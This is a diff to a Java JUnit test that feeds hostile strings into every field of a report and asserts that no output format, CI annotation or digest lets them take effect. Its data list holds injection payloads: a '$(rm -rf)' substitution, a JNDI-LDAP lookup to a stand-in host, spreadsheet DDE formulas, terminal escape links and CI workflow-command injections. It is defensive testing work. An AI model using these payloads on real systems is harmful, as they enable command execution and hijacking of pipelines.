@@ -23,7 +23,9 @@ import java.nio.charset.StandardCharsets;
 import java.nio.file.Files;
 import java.nio.file.Path;
 import java.util.ArrayList;
+import java.util.HashMap;
 import java.util.List;
+import java.util.Map;
 import java.util.function.BiFunction;
 import java.util.stream.Stream;
 import javax.xml.parsers.DocumentBuilderFactory;
@@ -31,6 +33,7 @@ import org.jsoup.Jsoup;
 import org.jsoup.nodes.Attribute;
 import org.jsoup.nodes.Document;
 import org.jsoup.nodes.Element;
+import org.junit.jupiter.api.Test;
 import org.junit.jupiter.api.io.TempDir;
 import org.junit.jupiter.params.ParameterizedTest;
 import org.junit.jupiter.params.provider.Arguments;
@@ -54,9 +57,24 @@ class HostileReportTest {
             "www.evil.example http://evil.example mailto:a@evil.example $(rm -rf) ${jndi:ldap://evil} {0} {{x}} %SRCROOT%",
             "\",\"verdict\":\"pass\"}],\"x\":[{\"a\":\"\\u0022\\",
             "=cmd|' /C calc'!A0",
+            "+1 @SUM(A1) -2+3|cmd \t=1",
+            "\u001b]8;;http://evil.example\u001b\\\\here\u001b]8;;\u0007 \u009d8;;http://evil.example\u009cthere",
+            "\u009b31m\u0090q\u009c \u001bP1$r\u001b^pm \u001b_apc \u001bc",
+            "\u200e\u200f\u061c\u202a\u202b\u2067\u2068\u2069 \udb40\udc01\udb40\udc41 a\u0301\u0301",
+            "</script><!--<script>{\"a\":1}//]]>",
+            "%0A::error::x%0D%0A::warning file=a::y %2e%2e%2f",
+            "::error file=x,line=1::y",
+            "::set-output name=x::y ::stop-commands::z ::add-path::/tmp",
+            "##vso[task.setvariable variable=x]y ##teamcity[message text='x']",
             "::add-mask::x ##[error]x",
             "x".repeat(5_000),
             "");
+
+    /** What is not printed but obeyed: controls, directions, line ends. */
+    private static final String OBEYED = "[\\p{Cntrl}\\p{Cf}\\u0080-\\u009f\\u2028\\u2029]";
+
+    /** What is longer may be cut before its end. */
+    private static final int LONG = 450;
 
     private static final List<String> ELEMENTS = List.of(
             ("#root html head meta title link style body a header svg path circle rect div h1 h2 h3 h4 p nav ul li span main"
@@ -100,26 +118,141 @@ class HostileReportTest {
     @MethodSource("files")
     void nothing_becomes_live_and_every_file_is_read(String file, ReportFormat format) throws Exception {
         for (String hostile : HOSTILE) {
-            for (Field field : FIELDS) {
-                check(file, write(format, Run.of(field.set(login(), hostile)).judged()));
-            }
-            Run all = Run.of(FIELDS.stream()
-                            .map(field -> field.set(login(), hostile))
-                            .toArray(FindingBuilder[]::new))
-                    .problem(hostile + "problem")
-                    .warning(hostile)
-                    .talking(new Counting.Destination(hostile, 80, "http", 1, false))
-                    .sealed(new Counting.Destination(hostile, 443, hostile, 1, true), from(hostile), sealed(hostile))
-                    .listening(
-                            new Entry.Seam(hostile, hostile, null, null),
-                            new Entry.Seam("x", hostile, hostile, hostile));
-            Allowance allowance = new Allowance(null, null, hostile + "x", null, null, hostile + "x", null);
-            String text = write(format, all.judged(Policy.DEFAULT.withExceptions(List.of(allowance))));
+            Report report = everywhere(hostile);
+            String text = write(format, report);
             check(file, text);
             if (Consumers.haveSchema(file) && !file.equals("waxseal.json")) { // that one says what it was told
                 assertThat(Consumers.violations(file, text)).isEmpty();
             }
+            check(file, write(format, Poisoned.of(report, HostileReportTest::isFree, hostile)));
         }
+    }
+
+    @ParameterizedTest(name = "{0}")
+    @MethodSource("files")
+    void nor_does_it_in_one_field_alone(String file, ReportFormat format) throws Exception {
+        Report report = everywhere("x");
+        List<String> texts = together();
+        int next = 0;
+        for (Field field : FIELDS) {
+            check(
+                    file,
+                    write(
+                            format,
+                            Run.of(field.set(login(), texts.get(next++ % texts.size())))
+                                    .judged()));
+        }
+        for (String field : Poisoned.fields(report)) {
+            if (isFree(field)) {
+                check(file, write(format, Poisoned.of(report, field::equals, texts.get(next++ % texts.size()))));
+            }
+        }
+    }
+
+    @Test
+    void a_pipeline_takes_no_commands_from_it() throws Exception {
+        for (String hostile : together()) {
+            List<String> lines = new ArrayList<>();
+            new GitHubActions(Map.of("GITHUB_ACTIONS", "true"), new HashMap<>())
+                    .tell(Poisoned.of(everywhere("x"), HostileReportTest::isFree, hostile), lines::add, warning -> {});
+
+            assertThat(lines).isNotEmpty().allSatisfy(line -> {
+                assertThat(line).doesNotContainPattern(OBEYED);
+                assertThat(line.substring(0, line.indexOf("::", 2)))
+                        .matches("::(error|warning|notice) (file=[^,:]+(,line=[0-9]+)?,)?title=[^,:]*");
+            });
+        }
+    }
+
+    @Test
+    void a_page_of_somebody_elses_gets_lines_of_text() throws Exception {
+        for (String hostile : HOSTILE) {
+            Digest digest = Digest.of(Poisoned.of(everywhere(hostile), HostileReportTest::isFree, hostile));
+            assertThat(digest.toString()).doesNotContainPattern(OBEYED);
+        }
+    }
+
+    @Test
+    void all_that_a_report_says_is_tried() throws Exception {
+        assertThat(Poisoned.fields(everywhere("x")))
+                .hasSizeGreaterThan(55)
+                .contains("Judgement.evidence", "StandsFor.url", "Comparison.fixed", "Allowance.why", "Report.module");
+    }
+
+    /** What is a path of the repository was made one before, from what is hostile in {@link #FIELDS}. */
+    private static boolean isFree(String field) {
+        return !field.equals("SourceLine.path");
+    }
+
+    /** All of them in a few texts that no format cuts; fields take turns with them, for each has had each already. */
+    private static List<String> together() {
+        List<String> texts = new ArrayList<>(List.of(""));
+        for (String hostile : HOSTILE) {
+            int last = texts.size() - 1;
+            if (hostile.length() < LONG && texts.get(last).length() + hostile.length() < LONG) {
+                texts.set(last, texts.get(last) + ' ' + hostile);
+            } else if (hostile.length() < LONG) {
+                texts.add(hostile);
+            }
+        }
+        return texts;
+    }
+
+    /** A report in which each field has this. */
+    private static Report everywhere(String hostile) {
+        Run run = Run.of(FIELDS.stream()
+                        .map(field -> field.set(login(), hostile))
+                        .toArray(FindingBuilder[]::new))
+                .problem(hostile + "problem")
+                .warning(hostile)
+                .talking(new Counting.Destination(hostile, 80, "http", 1, false))
+                .sealed(new Counting.Destination(hostile, 443, hostile, 1, true), from(hostile), sealed(hostile))
+                .listening(
+                        new Entry.Seam(hostile, hostile, null, null), new Entry.Seam("x", hostile, hostile, hostile));
+        Allowance allowance = new Allowance(hostile, hostile, hostile + "x", hostile, hostile, hostile + "x", null);
+        Report report = run.judged(
+                Policy.DEFAULT.withExceptions(List.of(allowance)),
+                Circumstances.judgedBy(List.of(hostile))
+                        .after(null, new Earlier(hostile, Map.of("0815", hostile), 0), false));
+        List<Judgement> findings = report.findings().stream()
+                .map(judgement -> elsewhere(judgement, hostile))
+                .toList();
+        return new Report(
+                report.isComplete(),
+                report.warnings(),
+                report.summary(),
+                report.heard(),
+                report.unheard(),
+                findings,
+                report.destinations(),
+                report.sealed(),
+                report.sealedFrom(),
+                List.of(hostile),
+                report.policies(),
+                List.of(hostile),
+                report.exemptions(),
+                hostile,
+                report.began(),
+                report.comparison());
+    }
+
+    /** The same finding in a module of that name, in which it stands for something. */
+    private static Judgement elsewhere(Judgement one, String hostile) {
+        return new Judgement(
+                one.id(),
+                one.rule(),
+                one.severity(),
+                one.verdict(),
+                one.reason(),
+                one.evidence(),
+                one.finding(),
+                one.source(),
+                one.isLocal(),
+                one.places(),
+                one.tests(),
+                one.count(),
+                List.of(hostile),
+                new StandsFor(hostile, false, new SourceLine("application.yml", 1)));
     }
 
     /** Where what is sealed comes from, and what a journal may say of how. */
